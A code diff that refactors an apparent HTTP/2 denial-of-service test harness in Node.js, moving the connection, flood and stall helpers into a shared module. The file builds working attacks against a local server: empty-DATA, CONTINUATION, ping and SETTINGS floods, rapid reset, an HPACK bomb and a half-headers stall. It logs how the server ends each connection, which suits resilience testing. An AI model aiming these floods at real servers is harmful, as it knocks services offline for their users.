@@ -3,8 +3,8 @@
 // with incremental indexing, one-byte dynamic-table references) and a frame
 // reader that records how the server ended each connection.
 'use strict';
-const net = require('node:net');
 const { spawn } = require('node:child_process');
+const { RawConn, sleep, until, tally, fmtN, flood, floodRow, stallRow } = require('./common.js');
 
 const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
 const T = { DATA: 0, HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6, GOAWAY: 7, WINDOW_UPDATE: 8, CONTINUATION: 9 };
@@ -98,40 +98,22 @@ function hpackBomb(streamId, frames) {
  * bytes per stream; ACKs the server's SETTINGS (or blindly, up front, when
  * it never reads).
  */
-class Conn {
+class Conn extends RawConn {
   constructor(port, { read = true, settings: s = [], connWindow = 0, onData = null } = {}) {
-    this.goaway = null;
-    this.rst = new Map();
+    super(port, read);
     this.headers = 0;
     this.dataBytes = 0;
-    this.closed = false;
-    this.error = null;
     this.onData = onData;
-    this.reading = read;
-    this._buf = Buffer.alloc(0);
-    this._skip = 0; // DATA payload bytes still to skip
     this._skipStream = 0;
-    this.sock = net.connect(port, '127.0.0.1');
-    this.sock.setNoDelay(true);
     // Resolves once the server's SETTINGS arrived and were ACKed (or the socket closed).
     this.settled = new Promise((resolve) => { this._settled = resolve; this.sock.once('close', resolve); });
-    this.connected = new Promise((resolve) => {
-      this.sock.once('connect', resolve);
-      this.sock.once('close', resolve);
-    });
     const first = [PREFACE, settings(s)];
     if (connWindow > 65535) first.push(windowUpdate(0, connWindow - 65535));
     if (!read) first.push(settingsAck());
     this.sock.write(Buffer.concat(first));
-    this.sock.on('error', (e) => { this.error ??= e.code || String(e); });
-    this.sock.on('close', () => { this.closed = true; });
-    this.sock.on('data', (d) => this._parse(d));
-    if (!read) this.sock.pause();
   }
-  resume() {
-    this.reading = true;
-    this.sock.resume();
-  }
+  goawayName(c) { return codeName(c); }
+  rstName(c) { return codeName(c); }
   _parse(d) {
     let off = 0;
     if (this._skip) {
@@ -164,10 +146,8 @@ class Conn {
       const pl = buf.subarray(p + 9, p + 9 + len);
       p += 9 + len;
       if (type === T.GOAWAY && len >= 8) this.goaway ??= pl.readUInt32BE(4);
-      else if (type === T.RST_STREAM && len >= 4) {
-        const c = pl.readUInt32BE(0);
-        this.rst.set(c, (this.rst.get(c) || 0) + 1);
-      } else if (type === T.HEADERS) this.headers++;
+      else if (type === T.RST_STREAM && len >= 4) this._countRst(pl.readUInt32BE(0));
+      else if (type === T.HEADERS) this.headers++;
       else if (type === T.SETTINGS && !(flags & F.ACK) && this.reading && !this.sock.destroyed) {
         this.sock.write(settingsAck());
         this._settled();
@@ -175,54 +155,6 @@ class Conn {
     }
     this._buf = Buffer.from(buf.subarray(p));
   }
-  /** Writes with back-pressure; resolves false once the socket is gone. */
-  write(b) {
-    if (this.sock.destroyed || this.closed) return Promise.resolve(false);
-    if (this.sock.write(b)) return Promise.resolve(true);
-    return new Promise((resolve) => {
-      const done = (v) => { this.sock.off('drain', onDrain); this.sock.off('close', onClose); resolve(v); };
-      const onDrain = () => done(true);
-      const onClose = () => done(false);
-      this.sock.on('drain', onDrain);
-      this.sock.on('close', onClose);
-    });
-  }
-  /** As write(), but gives up (false) at `deadline` (ms since epoch) when the server stopped reading. */
-  writeBy(b, deadline) {
-    let t;
-    return Promise.race([this.write(b), new Promise((r) => { t = setTimeout(() => r(false), Math.max(0, deadline - Date.now())); })])
-      .finally(() => clearTimeout(t));
-  }
-  /** Resumes a paused reader for up to `ms` to see what the server queued (GOAWAY?). */
-  async drainScan(ms) {
-    if (!this.reading) this.resume();
-    const t0 = Date.now();
-    while (Date.now() - t0 < ms && !this.closed && this.goaway === null) await sleep(20);
-  }
-  /** One word for how the server ended this connection. */
-  outcome() {
-    const parts = [];
-    if (this.goaway !== null) parts.push(`GOAWAY ${codeName(this.goaway)}`);
-    else if (this.rst.size) parts.push([...this.rst.keys()].map((c) => `RST_STREAM ${codeName(c)}`).join('+'));
-    if (this.goaway === null) {
-      if (this.closed) parts.push(this.error ? `socket closed (${this.error})` : 'socket closed');
-      else parts.push(this.rst.size ? 'conn open' : 'still open');
-    }
-    return parts.join(', ');
-  }
-  destroy() { this.sock.destroy(); }
-}
-
-const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
-async function until(pred, deadline, step = 20) {
-  while (!pred() && Date.now() < deadline) await sleep(step);
-  return pred();
-}
-/** "3× A, 1× B" from a list of outcome strings. */
-function tally(list) {
-  const m = new Map();
-  for (const s of list) m.set(s, (m.get(s) || 0) + 1);
-  return [...m].sort((a, b) => b[1] - a[1]).map(([s, n]) => (list.length > 1 ? `${n}× ${s}` : s)).join('; ');
 }
 
 // ---- attacks: each (port, ctx) -> { ended, note? }; ctx = { deadline, q (quick), big } ----
@@ -308,18 +240,6 @@ async function midBody(port, ctx) {
 }
 
 /** Writes `frameBuf` (a batch of frames) up to `count` frames or the deadline; stops on GOAWAY/close. */
-async function flood(c, frameBuf, perBatch, count, ctx) {
-  let sent = 0;
-  const stopAt = Math.min(ctx.deadline - 2500, Date.now() + (ctx.q ? 6000 : 15000));
-  while (sent < count && Date.now() < stopAt && !c.closed && c.goaway === null) {
-    if (!(await c.writeBy(frameBuf, stopAt))) break;
-    sent += perBatch;
-    if ((sent / perBatch) % 64 === 0) await new Promise(setImmediate); // let reads in
-  }
-  return sent;
-}
-const fmtN = (n) => (n >= 1e6 ? `${(n / 1e6).toFixed(1)} M` : n >= 1e3 ? `${(n / 1e3).toFixed(0)} k` : String(n));
-
 async function emptyData(port, ctx) {
   const c = new Conn(port);
   await c.connected;
@@ -327,11 +247,7 @@ async function emptyData(port, ctx) {
   const one = frame(T.DATA, 0, 1);
   const per = 8192;
   const batch = Buffer.concat(Array(per).fill(one));
-  const sent = await flood(c, batch, per, ctx.q ? 2e6 : 20e6, ctx);
-  await until(() => c.closed || c.goaway !== null, Date.now() + 1500);
-  const r = { ended: `${c.outcome()} after ${fmtN(sent)} frames sent` };
-  c.destroy();
-  return r;
+  return floodRow(c, batch, per, ctx.q ? 2e6 : 20e6, ctx, 'frames sent');
 }
 
 /** HEADERS without END_HEADERS, then CONTINUATION frames of small literal fields, never ending the block. */
@@ -341,11 +257,7 @@ async function continuationFlood(port, ctx) {
   c.sock.write(frame(T.HEADERS, F.END_STREAM, 1, requestBlock()));
   const one = frame(T.CONTINUATION, 0, 1, litIdxName(58, 'x'.repeat(100))); // user-agent
   const per = Math.floor(65536 / one.length);
-  const sent = await flood(c, Buffer.concat(Array(per).fill(one)), per, ctx.q ? 200e3 : 1e6, ctx);
-  await until(() => c.closed || c.goaway !== null, Date.now() + 1500);
-  const r = { ended: `${c.outcome()} after ${fmtN(sent)} CONTINUATIONs sent` };
-  c.destroy();
-  return r;
+  return floodRow(c, Buffer.concat(Array(per).fill(one)), per, ctx.q ? 200e3 : 1e6, ctx, 'CONTINUATIONs sent');
 }
 
 async function rapidReset(port, ctx) {
@@ -392,18 +304,7 @@ async function halfHeaders(port, ctx) {
   for (let i = 0; i < n; i++) cs.push(new Conn(port));
   // The half frame must be the last thing sent: ACK the server's SETTINGS first.
   await Promise.race([Promise.all(cs.map((c) => c.settled)), sleep(3000)]);
-  const t0 = Date.now();
-  cs.forEach((c) => {
-    c.sock.write(half);
-    c.sock.once('close', () => { c.closedAfter = Date.now() - t0; });
-  });
-  await until(() => cs.every((c) => c.closed), ctx.deadline - 1500, 100);
-  const closed = cs.filter((c) => c.closed);
-  const secs = closed.length ? ` after ${(Math.max(...closed.map((c) => c.closedAfter)) / 1000).toFixed(0)} s` : '';
-  const stall = ((Date.now() - t0) / 1000).toFixed(0);
-  const r = { ended: closed.length ? `${tally(cs.map((c) => c.outcome()))}${secs}` : `0/${n} closed in ${stall} s` };
-  cs.forEach((c) => c.destroy());
-  return r;
+  return stallRow(cs, half, ctx);
 }
 
 module.exports = {
@@ -419,6 +320,4 @@ module.exports = {
   pingFlood: (port, ctx) => neverReadFlood(port, ctx, ping(1)),
   settingsFlood: (port, ctx) => neverReadFlood(port, ctx, settings()),
   halfHeaders,
-  // shared with spdy.js
-  sleep, until, tally, fmtN, flood,
 };
